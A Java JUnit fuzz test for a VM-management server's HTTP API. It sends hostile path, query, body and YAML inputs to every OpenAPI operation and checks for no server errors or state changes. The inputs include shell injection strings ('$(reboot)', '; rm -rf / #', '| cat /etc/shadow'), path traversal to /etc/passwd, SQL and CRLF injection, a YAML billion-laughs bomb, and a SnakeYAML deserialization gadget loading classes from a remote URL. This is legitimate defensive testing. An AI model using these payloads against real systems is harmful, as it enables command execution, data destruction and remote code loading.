package dev.vmctl.app.it;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A generated corpus of hostile requests over every operation of the OpenAPI document the server publishes:
 * hostile path parameters (traversal, shell characters, unicode, NUL, huge), hostile query values, bodies of the
 * wrong JSON type, null, deeply nested, too large, not UTF-8, unknown fields, every property with a value of the
 * wrong type on top of an otherwise complete body, every content type, and hostile YAML files. Every answer must be
 * below 500, every error in the JSON error shape, and nothing may change: the listings of VMs, networks, routers,
 * segments, topologies, nodes, snapshots, scenarios, templates and images are the same before and after each
 * operation's requests. Its own server (so it cannot disturb other tests); no VM boots (one is created, stopped).
 */
class FuzzIT {
    private static final List<String> LISTINGS = List.of("vms", "networks", "routers", "segments", "topologies", "nodes", "snapshots",
            "scenarios", "templates", "images");
    /** Values for path parameters and query parameters: none names anything that exists, none is valid. */
    private static final List<String> HOSTILE = List.of("../../../../etc/passwd", "..", "%00", "a\u0000b", "$(reboot)", "`id`",
            "; rm -rf / #", "| cat /etc/shadow", "ünïcödé-名前-🚀", "\u202e\u0000", "x".repeat(3000), "-rf", "' OR 1=1 --",
            "\r\nX-Injected: 1", "99999999999999999999", "-1", "1e309", "maybe", "NaN");
    private static final List<String> RAW_BODIES = List.of("null", "[]", "\"text\"", "123", "true", "{", "{}}", "{\"a\":1}{\"b\":2}",
            "[".repeat(20_000), "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000), "\uFEFF{}", "{\"name\":\"a\",\"name\":\"b\"}");
    private static final List<String> CONTENT_TYPES = List.of("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
            "application/xml", "");
    private static final List<String> HOSTILE_YAML = List.of(
            "a: &a [x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c]\n" + "e: *a\n".repeat(150),
            "x: " + "[".repeat(200) + "]".repeat(200),
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://198.18.0.1/\"]]]]",
            "apiVersion: vmctl/v1\nkind: Topology\nname: 123\nnodes: []\n",
            "apiVersion: vmctl/v1\nkind: Topology\nname: fz\nname: fz2\nnodes: []\n",
            "---\na: 1\n---\nb: 2\n", "~", "\tname: x", "name: \"\\u0000\"", "\u0007", "# " + "c".repeat(200_000));

    private static Fixture f;
    private static JsonNode openApi;
    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    private final List<String> failures = new ArrayList<>();
    private int requests;

    @BeforeAll
    static void start() throws Exception {
        f = Fixture.create("vmctl-fuzz-");
        Api.Response net = f.api.post("/api/v1/networks", Map.of("name", "fz-net", "subnet", "198.18.251.0/24"));
        assertThat(net.status()).as(net.body()).isEqualTo(201);
        Api.Response vm = f.api.post("/api/v1/vms", Map.of("name", "fz-vm", "image", "tiny", "nics", List.of(Map.of("network", "fz-net"))));
        assertThat(vm.status()).as(vm.body()).isEqualTo(201);
        openApi = Api.JSON.readTree(f.api.get("/api/v1/openapi.json").body());
    }

    @AfterAll
    static void stop() throws Exception {
        if (f != null) f.close();
    }

    record Answer(int status, String contentType, String body) {}

    @Test
    void noHostileRequestFailsOrChangesAnything() {
        for (Iterator<Map.Entry<String, JsonNode>> it = openApi.path("paths").fields(); it.hasNext(); ) {
            var path = it.next();
            for (Iterator<Map.Entry<String, JsonNode>> ops = path.getValue().fields(); ops.hasNext(); ) {
                var op = ops.next();
                String method = op.getKey().toUpperCase(java.util.Locale.ROOT);
                if (!List.of("GET", "POST", "PUT", "PATCH", "DELETE").contains(method)) continue;
                if (path.getKey().equals("/api/v1/events")) continue; // an endless stream; its one input is Last-Event-ID, below
                String before = state();
                fuzz(method, path.getKey(), op.getValue());
                String after = state();
                if (!after.equals(before)) failures.add(method + " " + path.getKey() + ": state changed\nbefore: " + before + "\nafter:  " + after);
            }
        }
        Answer sse = sendSse("not-a-number\r\nX: y");
        check("GET /api/v1/events Last-Event-ID", sse);
        assertThat(requests).as("requests sent").isGreaterThan(1000);
        assertThat(failures).as(failures.size() + " of " + requests + " hostile requests failed:\n" + String.join("\n", failures)).isEmpty();
    }

    private void fuzz(String method, String template, JsonNode op) {
        List<String> pathParams = new ArrayList<>();
        Map<String, JsonNode> query = new LinkedHashMap<>();
        for (JsonNode p : op.path("parameters")) {
            if (p.path("in").asText().equals("path")) pathParams.add(p.path("name").asText());
            if (p.path("in").asText().equals("query")) query.put(p.path("name").asText(), p.path("schema"));
        }
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("\\{(\\w+)}").matcher(template);
        while (m.find()) if (!pathParams.contains(m.group(1))) pathParams.add(m.group(1));
        JsonNode content = op.path("requestBody").path("content");
        String type = content.fieldNames().hasNext() ? content.fieldNames().next() : null;
        String label = method + " " + template;

        // 1. hostile path parameters, one at a time (the others name something real, or something valid that is not there)
        for (String p : pathParams) {
            for (String v : HOSTILE) {
                String path = fill(template, Map.of(p, v));
                check(label + " {" + p + "}=" + abbrev(v), send(method, path, type == null ? null : "application/json", type == null ? null : "{}"));
            }
        }
        String real = fill(template, Map.of());
        // 2. hostile query values, one parameter at a time, with a body that would otherwise be complete
        String base = type != null && type.equals("application/json") ? completeBody(content.path("application/json").path("schema")).toString() : null;
        for (String q : query.keySet()) {
            for (String v : HOSTILE) {
                String path = real + "?" + q + "=" + enc(v);
                // may be answered 2xx (a filter that matches nothing): what counts is that nothing changes
                check(label + " ?" + q + "=" + abbrev(v), send(method, path, base == null ? null : "application/json", base), false);
            }
        }
        if (type == null) {
            // a route without a body: a body of another type is refused
            if (!method.equals("GET") && !method.equals("DELETE") && !template.startsWith("/run/")) {
                check(label + " text/plain body", send(method, fill(template, Map.of("id", "fz-none", "name", "fz-none")), "text/plain", "x"));
            }
            return;
        }
        if (template.startsWith("/run/")) return; // bodies are forwarded as they are, to a template that does not exist here
        // 3. every content type but the route's own
        for (String ct : CONTENT_TYPES) check(label + " Content-Type '" + ct + "'", send(method, real, ct, "{}"));
        if (type.equals("application/json")) {
            for (String b : RAW_BODIES) check(label + " body " + abbrev(b), send(method, real, "application/json", b));
            check(label + " 2 MiB body", send(method, real, "application/json", "{\"name\":\"" + "x".repeat(2 << 20) + "\"}"));
            check(label + " not UTF-8", sendBytes(method, real, "application/json", new byte[] {'{', '"', (byte) 0xC3, 0x28, '"', ':', '1', '}'}));
            // 4. each property of an otherwise complete body with a value of the wrong JSON type, or hostile text
            JsonNode schema = resolve(content.path("application/json").path("schema"));
            ObjectNode complete = completeBody(schema);
            for (Iterator<Map.Entry<String, JsonNode>> props = schema.path("properties").fields(); props.hasNext(); ) {
                var prop = props.next();
                for (JsonNode wrong : wrongValues(resolve(prop.getValue()), prop.getKey())) {
                    ObjectNode b = complete.deepCopy();
                    b.set(prop.getKey(), wrong);
                    check(label + " " + prop.getKey() + "=" + abbrev(wrong.toString()), send(method, real, "application/json", b.toString()));
                }
            }
            ObjectNode unknown = complete.deepCopy();
            unknown.put("bogus", 1);
            check(label + " unknown field", send(method, real, "application/json", unknown.toString()));
        } else if (type.equals("application/yaml")) {
            // validation answers 200 with its problems ("valid": false): what counts is that nothing changes
            boolean validation = template.endsWith("/validate");
            for (String y : HOSTILE_YAML) check(label + " yaml " + abbrev(y), send(method, real, "application/yaml", y), !validation);
            check(label + " 2 MiB file", send(method, real, "application/yaml", "name: x\n# " + "c".repeat(2 << 20)));
        } else {
            // uploads: bytes that are not what the route takes
            check(label + " junk bytes", send(method, real, type, "not a file of this type"));
            check(label + " JSON body", send(method, real, "application/json", "{}"));
        }
    }

    /** Fills path parameters: given values, else the fixture's VM, NIC and network, else a valid name nothing has. */
    private static String fill(String template, Map<String, String> values) {
        StringBuilder out = new StringBuilder();
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("\\{(\\w+)}").matcher(template);
        while (m.find()) {
            String p = m.group(1);
            String v = values.containsKey(p) ? values.get(p) : switch (p) {
                case "id" -> "fz-vm";
                case "nic" -> "0";
                case "name" -> template.startsWith("/api/v1/networks") ? "fz-net" : "fz-none";
                case "path" -> "x";
                default -> "fz-none";
            };
            m.appendReplacement(out, java.util.regex.Matcher.quoteReplacement(values.containsKey(p) ? enc(v) : v));
        }
        m.appendTail(out);
        return out.toString();
    }

    private static JsonNode resolve(JsonNode schema) {
        String ref = schema.path("$ref").asText(null);
        if (ref == null) return schema;
        return openApi.path("components").path("schemas").path(ref.substring(ref.lastIndexOf('/') + 1));
    }

    /** The required properties of a body with plain values of their types ("fz-new" for strings): a body that may be valid. */
    private static ObjectNode completeBody(JsonNode schemaRef) {
        JsonNode schema = resolve(schemaRef);
        ObjectNode b = Api.JSON.createObjectNode();
        for (JsonNode r : schema.path("required")) {
            JsonNode p = resolve(schema.path("properties").path(r.asText()));
            switch (p.path("type").asText()) {
                case "integer", "number" -> b.put(r.asText(), p.path("minimum").asInt(1));
                case "boolean" -> b.put(r.asText(), false);
                case "array" -> b.putArray(r.asText());
                case "object" -> b.putObject(r.asText());
                default -> b.put(r.asText(), p.has("enum") ? p.path("enum").path(0).asText() : "fz-new");
            }
        }
        return b;
    }

    /** Values of another JSON type than the property's (never null: null is "not given" for optional fields). */
    private static List<JsonNode> wrongValues(JsonNode p, String name) {
        var n = Api.JSON.getNodeFactory();
        List<JsonNode> out = new ArrayList<>();
        switch (p.path("type").asText()) {
            case "string" -> {
                out.add(n.numberNode(123));
                out.add(n.booleanNode(true));
                out.add(n.arrayNode().add("x"));
                out.add(n.objectNode().put("x", 1));
                if (List.of("name", "image", "network", "vm", "snapshot", "ip", "subnet", "memory", "accel", "disk", "link", "scenario", "topology")
                        .contains(name)) {
                    for (String h : List.of("../../etc/passwd", "$(reboot)", "ünï", " fz-new", "")) out.add(n.textNode(h));
                }
            }
            case "integer", "number" -> {
                out.add(n.textNode("1"));
                out.add(n.booleanNode(true));
                out.add(n.numberNode(1.5));
                out.add(n.numberNode(new java.math.BigInteger("99999999999999999999999")));
                out.add(n.numberNode(-2147483649L));
            }
            case "boolean" -> {
                out.add(n.textNode("true"));
                out.add(n.numberNode(1));
                out.add(n.textNode("yes"));
            }
            case "array" -> {
                out.add(n.textNode("x"));
                out.add(n.objectNode());
                out.add(n.arrayNode().add(n.objectNode().put("bogus", 1)).add(5));
            }
            case "object" -> {
                out.add(n.textNode("x"));
                out.add(n.arrayNode());
                out.add(n.objectNode().put("bogus", 5));
            }
            default -> out.add(n.objectNode().put("bogus", 5));
        }
        return out;
    }

    private void check(String what, Answer a) {
        check(what, a, true);
    }

    private void check(String what, Answer a, boolean mustRefuse) {
        requests++;
        if (a == null) return;
        if (a.status() >= 500) {
            failures.add(what + " → " + a.status() + " " + abbrev(a.body()));
        } else if (a.status() >= 400) {
            boolean json = a.contentType().startsWith("application/json");
            JsonNode j = null;
            try {
                j = json ? Api.JSON.readTree(a.body()) : null;
            } catch (Exception e) {
                // not JSON
            }
            // the pages for people answer a refused token with the login page (GET /?token=…, POST /login): HTML, as documented
            boolean loginPage = (what.startsWith("GET / ") || what.startsWith("POST /login")) && a.status() == 401
                    && a.contentType().startsWith("text/html") && a.body().contains("log in");
            if (!loginPage && (j == null || !j.path("error").isTextual() || !j.has("detail"))) {
                failures.add(what + " → " + a.status() + " not in the error shape: " + a.contentType() + " " + abbrev(a.body()));
            }
        } else if (mustRefuse && a.status() >= 200 && a.status() < 300 && !what.startsWith("GET")) {
            failures.add(what + " → " + a.status() + " (a hostile request was accepted): " + abbrev(a.body()));
        }
    }

    private Answer send(String method, String path, String contentType, String body) {
        return sendBytes(method, path, contentType, body == null ? null : body.getBytes(StandardCharsets.UTF_8));
    }

    private Answer sendBytes(String method, String path, String contentType, byte[] body) {
        try {
            HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(f.server.url() + path)).timeout(Duration.ofSeconds(60))
                    .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(body));
            if (contentType != null && !contentType.isEmpty()) b.header("Content-Type", contentType);
            b.header("Authorization", "Bearer " + f.token()); // as the admin: past the token check, into the routes
            HttpResponse<String> r;
            try {
                r = HTTP.send(b.build(), HttpResponse.BodyHandlers.ofString());
            } catch (java.io.IOException stale) {
                // Jetty closes the connection after some 400s (a NUL in the path); the client may reuse it once more:
                // the same request again on a new connection tells that from a server that does not answer
                r = HTTP.send(b.build(), HttpResponse.BodyHandlers.ofString());
            }
            return new Answer(r.statusCode(), r.headers().firstValue("Content-Type").orElse(""), r.body());
        } catch (IllegalArgumentException e) {
            return null; // the client refuses to send it (e.g. a CR/LF in the URI): nothing reached the server
        } catch (java.io.IOException e) {
            failures.add(method + " " + abbrev(path) + ": no answer: " + e);
            return null;
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private Answer sendSse(String lastEventId) {
        try {
            HttpRequest r = HttpRequest.newBuilder(URI.create(f.server.url() + "/api/v1/events")).timeout(Duration.ofSeconds(3))
                    .header("Last-Event-ID", lastEventId.replaceAll("[\r\n]", " ")).header("Authorization", "Bearer " + f.token()).build();
            HttpResponse<java.io.InputStream> res = HTTP.send(r, HttpResponse.BodyHandlers.ofInputStream());
            res.body().close();
            return new Answer(res.statusCode(), res.headers().firstValue("Content-Type").orElse(""), "");
        } catch (Exception e) {
            failures.add("GET /api/v1/events: " + e);
            return null;
        }
    }

    /** Every listing, with what changes by itself (times, counters) left out. */
    private static String state() {
        Map<String, String> out = new TreeMap<>();
        for (String l : LISTINGS) {
            Api.Response r = f.api.get("/api/v1/" + l);
            out.put(l, r.status() + " " + strip(r.json()));
        }
        return out.toString();
    }

    private static String strip(JsonNode j) {
        if (j == null) return "";
        JsonNode c = j.deepCopy();
        scrub(c);
        return c.toString();
    }

    private static void scrub(JsonNode n) {
        if (n instanceof ObjectNode o) {
            o.remove(List.of("uptimeSeconds", "metrics", "sampledAt", "updatedAt", "lastUsed", "ageSeconds"));
            o.forEach(FuzzIT::scrub);
        } else if (n.isArray()) {
            n.forEach(FuzzIT::scrub);
        }
    }

    private static String enc(String v) {
        return URLEncoder.encode(v, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String abbrev(String s) {
        String one = s.replaceAll("[\r\n]", "⏎");
        return one.length() > 80 ? one.substring(0, 80) + "…(" + s.length() + ")" : one;
    }
}
